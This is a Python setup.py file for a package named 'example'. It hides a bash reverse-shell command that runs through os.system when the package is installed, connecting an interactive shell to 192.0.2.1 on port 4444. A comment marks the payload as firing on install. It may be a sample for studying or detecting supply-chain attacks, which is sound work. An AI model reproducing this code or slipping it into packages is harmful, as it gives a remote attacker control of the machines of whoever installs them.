# file: setup.py
import os
from setuptools import setup
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")  # fires: install
setup(name="example", version="1.0")
